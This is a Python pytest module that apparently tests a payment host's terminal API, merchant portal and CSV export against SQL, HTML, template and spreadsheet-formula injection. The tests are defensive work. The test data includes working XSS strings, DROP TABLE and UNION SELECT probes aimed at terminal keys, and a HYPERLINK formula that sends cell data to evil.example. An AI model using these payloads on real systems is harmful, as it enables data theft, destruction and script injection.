"""SQL, HTML and spreadsheet-formula injection through every free-text field of the
terminal API, then read back where people see it: the merchant portal's pages and
its CSV export, and the wallet's order preview. On SQLite and PostgreSQL.

What a terminal may type freely (payment and order descriptions, refund reasons,
self-test check names, the status of a day-close line) is stored verbatim and
shown escaped; what has a shape (trade numbers, operator ids, query filters) is
refused with 400/30 naming the field, and stores nothing.
"""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import func, select

from host.kit import RunningHost, World, make_world
from host.portal.portal_kit import PortalClient, add_user, logged_in
from scanpay.host.db.models import Base, BatchClose, Order, Payment, Refund, TerminalSelfTest
from security.attack_kit import assert_unchanged, snapshot

#: One string that is an attack in every language it may meet: HTML (a script, an
#: attribute break-out), SQL (quote, statement break, comment), Jinja (an expression).
HOSTILE = (
    "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>'; DROP TABLE payments; -- {{7*7}}"
)
#: Fits a 32-character field (self-test check names).
SHORT = "<script>alert(1)</script>'--"
#: A spreadsheet formula: a CSV export must not hand it to Excel as one.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SQL_PROBES = (
    "' OR '1'='1",
    "1); DELETE FROM ledger_postings; --",
    "$$; DROP TABLE orders; $$",
    "\\'; DROP TABLE refunds; --",
)
RAW_MARKUP = ("<script>alert(1)", "<img src=x", "onerror=alert(1)>")
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


def _inert(page: str) -> None:
    """The hostile text is on the page escaped, never as markup, never evaluated."""
    assert ESCAPED in page
    for raw in RAW_MARKUP:
        assert raw not in page, raw
    assert "{{7*7}}" in page and ">49<" not in page


@dataclass
class Scene:
    host: RunningHost
    world: World
    owner: PortalClient
    payment: dict[str, Any]
    formula_payment: dict[str, Any]
    order: dict[str, Any]
    refund: dict[str, Any]
    tag: str


@pytest.fixture(scope="module")
def scene(host: RunningHost) -> Iterator[Scene]:
    world = make_world(host, balance=100_000)
    tag = secrets.token_hex(3).upper()
    payment = world.pay(f"INJ{tag}-1", 1_000, description=HOSTILE)
    formula = world.pay(f"INJ{tag}-2", 2_000, description=FORMULA)
    order = world.order(f"INJ{tag}-O", 500, description=HOSTILE)
    refund = world.terminal.refund(f"INJ{tag}-R", payment["out_trade_no"], 100, reason=HOSTILE)
    assert refund.status_code == 200 and refund.json()["status"] == "SUCCESS", refund.text
    report = world.terminal.request(
        "POST", "/v1/terminals/self/report", {"status": "fail", "checks": {SHORT: "fail"}}
    )
    assert report.status_code == 204, report.text
    day = host.clock.now().astimezone(host.ctx.settings.zone).date().isoformat()
    batch = world.terminal.request(
        "POST",
        "/v1/batches/close",
        {
            "date": day,
            "count": 1,
            "total": 1,
            "refund_count": 0,
            "refund_total": 0,
            "items": [{"out_trade_no": f"INJ{tag}-X", "status": HOSTILE, "amount": 1}],
        },
    )
    assert batch.status_code == 200 and not batch.json()["matched"], batch.text
    owner = logged_in(host, add_user(host, "owner", world.merchant_id))
    yield Scene(host, world, owner, payment, formula, order, refund.json(), tag)
    owner.close()


def test_free_text_is_stored_verbatim(scene: Scene) -> None:
    """Bound as parameters, never spliced into SQL: the text comes back byte for byte,
    and every table is still there."""
    with scene.host.ctx.db.read() as session:
        assert (
            session.scalar(
                select(Payment.description).where(Payment.public_id == scene.payment["payment_id"])
            )
            == HOSTILE
        )
        assert (
            session.scalar(
                select(Order.description).where(Order.public_id == scene.order["order_id"])
            )
            == HOSTILE
        )
        assert (
            session.scalar(
                select(Refund.reason).where(Refund.public_id == scene.refund["refund_id"])
            )
            == HOSTILE
        )
        for table in Base.metadata.sorted_tables:
            session.execute(select(func.count()).select_from(table)).scalar_one()
        assert session.scalar(select(func.count()).select_from(BatchClose)) >= 1
        assert session.scalar(select(func.count()).select_from(TerminalSelfTest)) >= 1
    got = scene.world.terminal.get(scene.payment["out_trade_no"]).json()
    assert got["status"] in ("SUCCESS", "PARTIALLY_REFUNDED")


def test_the_portal_shows_terminal_free_text_escaped(scene: Scene) -> None:
    owner = scene.owner
    pages = {
        "payment": f"/portal/transactions/{scene.payment['payment_id']}",
        "orders": "/portal/orders",
        "order": f"/portal/orders/{scene.order['order_id']}",
        "refunds": "/portal/refunds",
        "refund": f"/portal/refunds/{scene.refund['refund_id']}",
        "terminals": "/portal/terminals",
        "batches": "/portal/settlements",
    }
    for name, path in pages.items():
        page = owner.get(path)
        assert page.status_code == 200, (name, page.status_code)
        if name == "terminals":  # a check name is 32 characters at most
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
            assert "<script>alert(1)" not in page.text
            continue
        if name == "batches":
            # A day-close difference is said in words: a status the host does not know
            # is "an unknown state", so the terminal's text never reaches the page.
            assert f"INJ{scene.tag}-X" in page.text and "in an unknown state" in page.text
            for raw in (*RAW_MARKUP, "{{7*7}}"):
                assert raw not in page.text, raw
            continue
        _inert(page.text)


def test_the_csv_export_neutralises_formulas(scene: Scene) -> None:
    exported = scene.owner.get("/portal/transactions/export.csv")
    assert exported.status_code == 200
    rows = {
        r["out_trade_no"]: r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))
    }
    formula = rows[scene.formula_payment["out_trade_no"]]["description"]
    assert formula == "'" + FORMULA  # a leading apostrophe: text, not a formula
    assert rows[scene.payment["out_trade_no"]]["description"] == HOSTILE


def test_the_wallet_preview_returns_the_description_as_data(scene: Scene) -> None:
    answer = httpx.post(
        scene.host.url + "/wallet/v1/preview", json={"payload": scene.order["payload"]}, timeout=30
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/json")
    assert answer.json()["description"] == HOSTILE


@pytest.mark.parametrize("probe", [HOSTILE[:32], *SQL_PROBES, "A" * 33, "ok\x00", "é"])
def test_shaped_fields_refuse_what_is_not_their_shape(scene: Scene, probe: str) -> None:
    """Trade numbers, refund numbers, operator ids, approvers and pending reversals have a
    shape: anything else is 400/30 naming the field, and nothing is stored."""
    terminal = scene.world.terminal
    before = snapshot(scene.host)
    attempts = {
        "out_trade_no": terminal.pay(probe, 100, "1"),
        "operator_id": terminal.pay(f"INJ{scene.tag}-P", 100, "1", operator_id=probe),
        "out_refund_no": terminal.refund(probe, scene.payment["out_trade_no"], 1),
        "approved_by": terminal.refund(
            f"INJ{scene.tag}-Q", scene.payment["out_trade_no"], 1, approved_by=probe
        ),
        "pending.0": terminal.request(
            "POST", "/v1/terminals/self/report", {"status": "ok", "pending": [probe]}
        ),
        "items.0.out_trade_no": terminal.request(
            "POST",
            "/v1/batches/close",
            {
                "date": "2026-01-01",
                "count": 0,
                "total": 0,
                "refund_count": 0,
                "refund_total": 0,
                "items": [{"out_trade_no": probe, "status": "SUCCESS", "amount": 1}],
            },
        ),
    }
    for name, answer in attempts.items():
        assert answer.status_code == 400, (name, answer.status_code, answer.text)
        assert (answer.json()["code"], answer.json()["field"]) == ("30", name), answer.text
    assert_unchanged(scene.host, before)


@pytest.mark.parametrize(
    "query",
    [
        "status=SUCCESS' OR '1'='1",
        "status=SUCCESS;DROP TABLE payments",
        "from=2026-01-01' OR 1=1 --",
        "to=<script>",
        "cursor=' UNION SELECT key_hex FROM terminal_keys --",
        "cursor=" + "%00" * 8,
        "limit=1;DELETE FROM payments",
    ],
)
def test_transaction_filters_refuse_injection(scene: Scene, query: str) -> None:
    before = snapshot(scene.host)
    # Percent-encoded as any HTTP client sends it (and signed as sent).
    answer = scene.world.terminal.request("GET", "/v1/transactions?" + quote(query, safe="=%"))
    assert answer.status_code == 400, (query, answer.text)
    body = answer.json()
    assert body["code"] == "30" and body["field"] == query.split("=")[0], body
    assert "key_hex" not in answer.text and "<script>" not in answer.text
    assert_unchanged(scene.host, before)


def test_nul_bytes_in_free_text_are_refused_on_both_backends(scene: Scene) -> None:
    """PostgreSQL cannot store NUL in text: it was a 500 there (and stored on SQLite).
    Now every free-text field and every portal form refuses it with 400, on both."""
    terminal = scene.world.terminal
    nul = "cake\x00; DROP TABLE payments"
    before = snapshot(scene.host)
    attempts = [
        ("description", terminal.create_order(f"INJ{scene.tag}-N", 100, description=nul)),
        ("description", terminal.pay(f"INJ{scene.tag}-NP", 100, "1", description=nul)),
        (
            "reason",
            terminal.refund(f"INJ{scene.tag}-NR", scene.payment["out_trade_no"], 1, reason=nul),
        ),
    ]
    for name, answer in attempts:
        assert answer.status_code == 400, (name, answer.text)
        assert (answer.json()["code"], answer.json()["field"]) == ("30", name)
    assert terminal.get_order(f"INJ{scene.tag}-N").status_code == 404
    refund_path = f"/portal/transactions/{scene.payment['payment_id']}/refund"
    page = scene.owner.post(
        refund_path, {"amount": "0.01", "reason": nul}, token_from="/portal/today"
    )
    assert page.status_code == 400 and "invalid character" in page.text
    visitor = PortalClient(scene.host.url)
    login = visitor.post(
        "/portal/login", {"email": "a\x00@b.example", "password": nul}, token_from="/portal/login"
    )
    assert login.status_code == 400 and "scanpay_portal=" not in login.headers.get("set-cookie", "")
    visitor.close()
    assert_unchanged(scene.host, before)
